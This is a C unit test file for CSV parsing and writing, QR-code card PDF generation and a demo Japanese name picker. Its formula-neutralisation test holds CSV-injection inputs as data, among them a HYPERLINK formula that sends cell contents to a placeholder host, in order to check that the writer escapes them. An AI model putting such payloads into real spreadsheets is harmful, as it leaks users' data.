/* SPDX-License-Identifier: MIT */
/* test_doc.c — unit tests for src/doc (CSV, QR card PDFs) and the demo name picker. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <iconv.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "app/demo_names.h"
#include "base/buf.h"
#include "base/xalloc.h"
#include "doc/cards_pdf.h"
#include "doc/csv.h"
#include "doc/csv_write.h"

extern char **environ;

/*
 * fontconfig and pango keep caches until exit; LeakSanitizer reports them. Same list as
 * tests/unit/lsan.supp, built in so the test passes without LSAN_OPTIONS.
 */
const char *__lsan_default_suppressions(void);
const char *__lsan_default_suppressions(void)
{
	return "leak:libfontconfig.so\n"
	       "leak:libpango-1.0.so\n"
	       "leak:libpangoft2-1.0.so\n"
	       "leak:libpangocairo-1.0.so\n"
	       "leak:libharfbuzz.so\n"
	       "leak:libglib-2.0.so\n"
	       "leak:libgobject-2.0.so\n"
	       "leak:libcairo.so\n";
}

/* ---- CSV ---- */

static struct doc_csv *parse_ok(const char *data, size_t len)
{
	struct doc_csv *csv = NULL;
	char msg[256];
	enum err e = doc_csv_parse(data, len, &csv, msg, sizeof msg);
	if (e != ERR_OK)
		fail_msg("parse failed: %s", msg);
	assert_non_null(csv);
	return csv;
}

static void test_csv_utf8_bom(void **state)
{
	(void)state;
	static const char in[] = "\xef\xbb\xbf"
				 "氏名,フリガナ\r\n髙橋 一郎,ﾀｶﾊｼ ｲﾁﾛｳ\r\n𠮷田,山﨑\r\n";
	struct doc_csv *csv = parse_ok(in, sizeof in - 1);
	assert_string_equal(csv->encoding, "UTF-8 (BOM)");
	assert_int_equal(csv->nrows, 3);
	assert_int_equal(csv->rows[0].nfields, 2);
	assert_string_equal(csv->rows[0].fields[0], "氏名");
	assert_string_equal(csv->rows[1].fields[0], "髙橋 一郎");
	assert_string_equal(csv->rows[1].fields[1], "ﾀｶﾊｼ ｲﾁﾛｳ");
	assert_string_equal(csv->rows[2].fields[0], "𠮷田");
	assert_string_equal(csv->rows[2].fields[1], "山﨑");
	assert_int_equal(csv->rows[2].line, 3);
	doc_csv_free(csv);
}

static void test_csv_utf8_plain(void **state)
{
	(void)state;
	static const char in[] = "a,b,c\nd,,f"; /* no trailing newline; empty field */
	struct doc_csv *csv = parse_ok(in, sizeof in - 1);
	assert_string_equal(csv->encoding, "UTF-8");
	assert_int_equal(csv->nrows, 2);
	assert_int_equal(csv->rows[1].nfields, 3);
	assert_string_equal(csv->rows[1].fields[1], "");
	assert_string_equal(csv->rows[1].fields[2], "f");
	doc_csv_free(csv);
}

static void test_csv_cp932(void **state)
{
	(void)state;
	/* 山田,ﾀﾛｳ\r\n髙橋,"1,2"\r\n in CP932: 山=8E52 田=9363 ﾀ=C0 ﾛ=DB ｳ=B3 髙=FBFC 橋=8BB4 */
	static const char in[] = "\x8e\x52\x93\x63,\xc0\xdb\xb3\r\n\xfb\xfc\x8b\xb4,\"1,2\"\r\n";
	struct doc_csv *csv = parse_ok(in, sizeof in - 1);
	assert_string_equal(csv->encoding, "CP932");
	assert_int_equal(csv->nrows, 2);
	assert_string_equal(csv->rows[0].fields[0], "山田");
	assert_string_equal(csv->rows[0].fields[1], "ﾀﾛｳ");
	assert_string_equal(csv->rows[1].fields[0], "髙橋");
	assert_string_equal(csv->rows[1].fields[1], "1,2");
	doc_csv_free(csv);

	/* The same text converted at run time with iconv. */
	const char *u = "佐藤,サトウ\n鈴木,\"ス\"\"ズキ\"\n";
	iconv_t cd = iconv_open("CP932", "UTF-8");
	assert_true(cd != (iconv_t)-1);
	char out[256];
	char *ip = (char *)u, *op = out;
	size_t il = strlen(u), ol = sizeof out;
	assert_true(iconv(cd, &ip, &il, &op, &ol) != (size_t)-1);
	iconv_close(cd);
	csv = parse_ok(out, (size_t)(op - out));
	assert_string_equal(csv->encoding, "CP932");
	assert_string_equal(csv->rows[0].fields[0], "佐藤");
	assert_string_equal(csv->rows[1].fields[1], "ス\"ズキ");
	doc_csv_free(csv);
}

static void test_csv_bad_encoding(void **state)
{
	(void)state;
	struct doc_csv *csv = (struct doc_csv *)1;
	char msg[256];
	/* 0x81 0x20: a CP932 lead byte with an invalid trail byte, and not UTF-8 either. */
	static const char in[] = "ok,\x81\x20x\n";
	assert_int_equal(doc_csv_parse(in, sizeof in - 1, &csv, msg, sizeof msg), ERR_INVALID);
	assert_null(csv);
	assert_non_null(strstr(msg, "CP932"));
	/* BOM followed by invalid UTF-8. */
	static const char in2[] = "\xef\xbb\xbf\xff\n";
	assert_int_equal(doc_csv_parse(in2, sizeof in2 - 1, &csv, msg, sizeof msg), ERR_INVALID);
	/* NUL byte. */
	static const char in3[] = "a\0b\n";
	assert_int_equal(doc_csv_parse(in3, sizeof in3 - 1, &csv, msg, sizeof msg), ERR_INVALID);
}

static void test_csv_quotes_and_lines(void **state)
{
	(void)state;
	static const char in[] = "id,note\r\n"
				 "1,\"multi\r\nline, with \"\"quotes\"\"\"\r\n"
				 "\r\n"
				 "2,\"\"\n"
				 "3,\"a\nb\nc\",x\n"
				 "4,end";
	struct doc_csv *csv = parse_ok(in, sizeof in - 1);
	assert_int_equal(csv->nrows, 5);
	assert_int_equal(csv->rows[0].line, 1);
	assert_int_equal(csv->rows[1].line, 2);
	assert_string_equal(csv->rows[1].fields[1], "multi\r\nline, with \"quotes\"");
	assert_int_equal(csv->rows[2].line, 5); /* line 4 is empty and skipped */
	assert_string_equal(csv->rows[2].fields[1], "");
	assert_int_equal(csv->rows[3].line, 6);
	assert_int_equal(csv->rows[3].nfields, 3);
	assert_string_equal(csv->rows[3].fields[1], "a\nb\nc");
	assert_int_equal(csv->rows[4].line, 9);
	assert_string_equal(csv->rows[4].fields[1], "end");
	doc_csv_free(csv);
}

static void test_csv_malformed(void **state)
{
	(void)state;
	struct doc_csv *csv = NULL;
	char msg[256];
	static const char unterminated[] = "a,b\nc,\"open\nmore\n";
	assert_int_equal(
	    doc_csv_parse(unterminated, sizeof unterminated - 1, &csv, msg, sizeof msg),
	    ERR_INVALID);
	assert_null(csv);
	assert_non_null(strstr(msg, "2行目"));
	static const char after[] = "a,\"b\"x,c\n";
	assert_int_equal(doc_csv_parse(after, sizeof after - 1, &csv, msg, sizeof msg),
			 ERR_INVALID);
	static const char inside[] = "a\nb,c\"d\n";
	assert_int_equal(doc_csv_parse(inside, sizeof inside - 1, &csv, msg, sizeof msg),
			 ERR_INVALID);
	assert_non_null(strstr(msg, "2行目"));
}

static void test_csv_caps(void **state)
{
	(void)state;
	struct doc_csv *csv = NULL;
	char msg[256];
	size_t n = DOC_CSV_MAX_FIELD + 1;
	char *big = xmalloc(n);
	memset(big, 'x', n);
	assert_int_equal(doc_csv_parse(big, n, &csv, msg, sizeof msg), ERR_TOOLARGE);
	assert_null(csv);
	free(big);
	/* Over the file cap: refused before the bytes are looked at. */
	assert_int_equal(doc_csv_parse("", (size_t)DOC_CSV_MAX_FILE + 1, &csv, msg, sizeof msg),
			 ERR_TOOLARGE);
	/* Empty input: no rows. */
	csv = parse_ok("", 0);
	assert_int_equal(csv->nrows, 0);
	doc_csv_free(csv);
}

/* ---- running tools, bounded in time and output ---- */

#define TOOL_MAX_OUT (1u << 20)

/* Runs argv (through timeout(1)), returns its stdout (caller frees) or NULL; *status set. */
static char *run_tool(char *const argv[], int *status)
{
	int pfd[2];
	char *const *a;
	size_t na = 0;
	for (a = argv; *a; a++)
		na++;
	char **full = xcalloc(na + 4, sizeof *full);
	full[0] = "timeout";
	full[1] = "120";
	for (size_t i = 0; i < na; i++)
		full[2 + i] = argv[i];

	assert_int_equal(pipe(pfd), 0);
	posix_spawn_file_actions_t fa;
	posix_spawn_file_actions_init(&fa);
	posix_spawn_file_actions_adddup2(&fa, pfd[1], 1);
	posix_spawn_file_actions_addclose(&fa, pfd[0]);
	posix_spawn_file_actions_addclose(&fa, pfd[1]);
	/* zbarimg chatters about D-Bus on stderr; the verdict comes from stdout and status. */
	posix_spawn_file_actions_addopen(&fa, 2, "/dev/null", O_WRONLY, 0);
	pid_t pid;
	int rc = posix_spawnp(&pid, "timeout", &fa, NULL, full, environ);
	posix_spawn_file_actions_destroy(&fa);
	free(full);
	close(pfd[1]);
	if (rc != 0) {
		close(pfd[0]);
		return NULL;
	}
	struct buf out;
	buf_init(&out, TOOL_MAX_OUT);
	char tmp[4096];
	ssize_t r;
	while ((r = read(pfd[0], tmp, sizeof tmp)) > 0 || (r < 0 && errno == EINTR)) {
		if (r > 0 && buf_append(&out, tmp, (size_t)r) != ERR_OK)
			break;
	}
	close(pfd[0]);
	while (waitpid(pid, status, 0) < 0 && errno == EINTR)
		;
	return buf_steal(&out);
}

/* ---- card PDF ---- */

/* Returns a malloc'd copy of s with each U+3000 replaced by one ASCII space. */
static char *ascii_spaces(const char *s)
{
	char *out = xstrdup(s);
	char *w = out;
	for (const char *r = s; *r;) {
		if (strncmp(r, "\u3000", 3) == 0) {
			*w++ = ' ';
			r += 3;
		} else {
			*w++ = *r++;
		}
	}
	*w = '\0';
	return out;
}

static void test_cards_pdf(void **state)
{
	(void)state;
	static const char *names[12] = {
	    "髙橋　一郎", "𠮷田　花子", "山﨑　陽葵",	"ﾀﾅｶ ﾀﾛｳ",  "佐藤　蓮",	    "鈴木　結菜",
	    "渡邊　湊",	  "齋藤　紬",	"長谷川　陽太", "伊藤　凛", "佐々木　悠真", "中村　澪",
	};
	static const char *kanas[12] = {
	    "タカハシ　イチロウ", "ヨシダ　ハナコ", "ヤマザキ　ヒマリ", "ﾀﾅｶ ﾀﾛｳ",
	    "サトウ　レン",	  "スズキ　ユイナ", "ワタナベ　ミナト", "サイトウ　ツムギ",
	    "ハセガワ　ヒナタ",	  "イトウ　リン",   "ササキ　ユウマ",	"ナカムラ　ミオ",
	};
	struct doc_card cards[12];
	char codes[12][48];
	char nos[12][16];
	for (int i = 0; i < 12; i++) {
		snprintf(codes[i], sizeof codes[i], "MMR1-%02d-7Q4XK2M9PA3T8ZC6", i);
		snprintf(nos[i], sizeof nos[i], "No. %06d", 100 + i);
		cards[i] = (struct doc_card){.child_name = names[i],
					     .child_kana = kanas[i],
					     .site_name = "みどり第二学童クラブ",
					     .child_no = nos[i],
					     .code = codes[i]};
	}
	char dir[] = "/tmp/test_doc_XXXXXX";
	assert_non_null(mkdtemp(dir));
	char *pdf = xasprintf("%s/cards.pdf", dir);
	assert_int_equal(doc_cards_pdf(pdf, cards, 12), ERR_OK);

	int st = -1;
	char *text =
	    run_tool((char *const[]){"pdftotext", "-raw", "-enc", "UTF-8", pdf, "-", NULL}, &st);
	assert_non_null(text);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	for (int i = 0; i < 12; i++) {
		/*
		 * Every character must come back byte-exact, but poppler turns any whitespace
		 * glyph (the U+3000 between surname and given name) into an ASCII space.
		 */
		char *want = ascii_spaces(names[i]);
		int ok = strstr(text, want) != NULL && strstr(text, nos[i]) != NULL;
		free(want);
		if (!ok) {
			free(text);
			fail_msg("name %d (%s) not in pdftotext output", i, names[i]);
		}
	}
	free(text);

	char *prefix = xasprintf("%s/page", dir);
	text = run_tool((char *const[]){"pdftoppm", "-r", "300", "-png", pdf, prefix, NULL}, &st);
	free(text);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	int found[12] = {0};
	for (int page = 1; page <= 2; page++) {
		char *png = xasprintf("%s-%d.png", prefix, page);
		text = run_tool((char *const[]){"zbarimg", "--raw", "-q", png, NULL}, &st);
		assert_non_null(text);
		for (int i = 0; i < 12; i++) {
			if (strstr(text, codes[i]))
				found[i]++;
		}
		free(text);
		unlink(png);
		free(png);
	}
	for (int i = 0; i < 12; i++) {
		if (found[i] != 1)
			fail_msg("code %d (%s) decoded %d times", i, codes[i], found[i]);
	}
	free(prefix);
	unlink(pdf);
	free(pdf);
	rmdir(dir);
}

static void test_cards_pdf_invalid(void **state)
{
	(void)state;
	struct doc_card c = {.child_name = "山田", .code = ""};
	assert_int_equal(doc_cards_pdf("/tmp/never.pdf", &c, 1), ERR_INVALID);
	c.code = "X";
	c.child_name = "\xff\xfe";
	assert_int_equal(doc_cards_pdf("/tmp/never.pdf", &c, 1), ERR_INVALID);
	c.child_name = "山田";
	assert_int_equal(doc_cards_pdf("/nonexistent-dir/x.pdf", &c, 1), ERR_IO);
}

/* ---- demo names ---- */

static uint32_t lcg_state = 12345;

static uint32_t test_rnd(uint32_t upper)
{
	lcg_state = lcg_state * 1103515245u + 12345u;
	return (lcg_state >> 8) % upper;
}

static int valid_utf8(const char *s)
{
	const unsigned char *p = (const unsigned char *)s;
	while (*p) {
		int n = *p < 0x80	  ? 0
			: (*p >> 5) == 6  ? 1
			: (*p >> 4) == 14 ? 2
			: (*p >> 3) == 30 ? 3
					  : -1;
		if (n < 0)
			return 0;
		p++;
		for (int i = 0; i < n; i++, p++)
			if ((*p & 0xc0) != 0x80)
				return 0;
	}
	return 1;
}

static void test_demo_names(void **state)
{
	(void)state;
	char name[DEMO_NAME_MAX], kana[DEMO_NAME_MAX], sur[DEMO_NAME_MAX], skana[DEMO_NAME_MAX];
	for (int i = 0; i < 2000; i++) {
		demo_surname_pick(test_rnd, sur, sizeof sur, skana, sizeof skana);
		assert_true(sur[0] && skana[0] && valid_utf8(sur) && valid_utf8(skana));
		demo_name_pick(test_rnd, NULL, i & 1, name, sizeof name, kana, sizeof kana);
		assert_true(name[0] && kana[0] && valid_utf8(name) && valid_utf8(kana));
		assert_non_null(strstr(name, "\u3000"));
		assert_non_null(strstr(kana, "\u3000"));
		demo_name_pick(test_rnd, sur, i & 1, name, sizeof name, kana, sizeof kana);
		assert_memory_equal(name, sur, strlen(sur));
		assert_memory_equal(kana, skana, strlen(skana));
		assert_true(valid_utf8(name) && valid_utf8(kana));
		demo_guardian_pick(test_rnd, sur, i & 2, name, sizeof name, kana, sizeof kana);
		assert_memory_equal(name, sur, strlen(sur));
		assert_true(valid_utf8(name) && valid_utf8(kana));
	}
	/* Siblings of a rare-character family keep the surname and reading. */
	demo_name_pick(test_rnd, "𠮷田", 1, name, sizeof name, kana, sizeof kana);
	assert_memory_equal(name, "𠮷田\u3000", strlen("𠮷田\u3000"));
	assert_memory_equal(kana, "ヨシダ\u3000", strlen("ヨシダ\u3000"));
}

/* ---- CSV writing: formulas ---- */

/* Writes one record of fields in enc and returns the encoded line without BOM (malloc'd). */
static char *csv_line(enum doc_csv_enc enc, const char *const *fields, size_t n)
{
	struct doc_csv_out w;
	assert_int_equal(doc_csv_out_init(&w, enc, 1 << 16), ERR_OK);
	assert_int_equal(doc_csv_out_row(&w, fields, n, NULL), ERR_OK);
	size_t skip = enc == DOC_CSV_UTF8_BOM ? 3 : 0;
	char *line = xstrdup(w.out.data + skip);
	doc_csv_out_free(&w);
	return line;
}

static void test_csv_formulas_neutralised(void **state)
{
	(void)state;
	/* OWASP's first characters, each written after an apostrophe, value kept readable. */
	const char *const f[] = {"=HYPERLINK(\"http://x/?x=\"&A1,\"a\")", "+SUM(A1)", "-2+3",
				 "@cmd", "\tx", "\r=1", "＝1+1", "１＝１", "a=b", "-12", "+3.5",
				 "-", "山田 太郎"};
	char *line = csv_line(DOC_CSV_UTF8_BOM, f, sizeof f / sizeof f[0]);
	assert_string_equal(line, "\"'=HYPERLINK(\"\"http://x/?x=\"\"&A1,\"\"a\"\")\","
				  "'+SUM(A1),'-2+3,'@cmd,'\tx,\"'\r=1\",'＝1+1,１＝１,a=b,-12,"
				  "+3.5,'-,山田 太郎\r\n");
	free(line);
	/* The same in CP932: the apostrophe is ASCII there too. */
	const char *const g[] = {"=1+1", "＠山田", "田中"};
	line = csv_line(DOC_CSV_CP932, g, 3);
	assert_string_equal(line, "'=1+1,'\x81\x97\x8e\x52\x93\x63,\x93\x63\x92\x86\r\n");
	free(line);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_csv_utf8_bom),
	    cmocka_unit_test(test_csv_utf8_plain),
	    cmocka_unit_test(test_csv_cp932),
	    cmocka_unit_test(test_csv_bad_encoding),
	    cmocka_unit_test(test_csv_quotes_and_lines),
	    cmocka_unit_test(test_csv_malformed),
	    cmocka_unit_test(test_csv_caps),
	    cmocka_unit_test(test_cards_pdf),
	    cmocka_unit_test(test_cards_pdf_invalid),
	    cmocka_unit_test(test_demo_names),
	    cmocka_unit_test(test_csv_formulas_neutralised),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
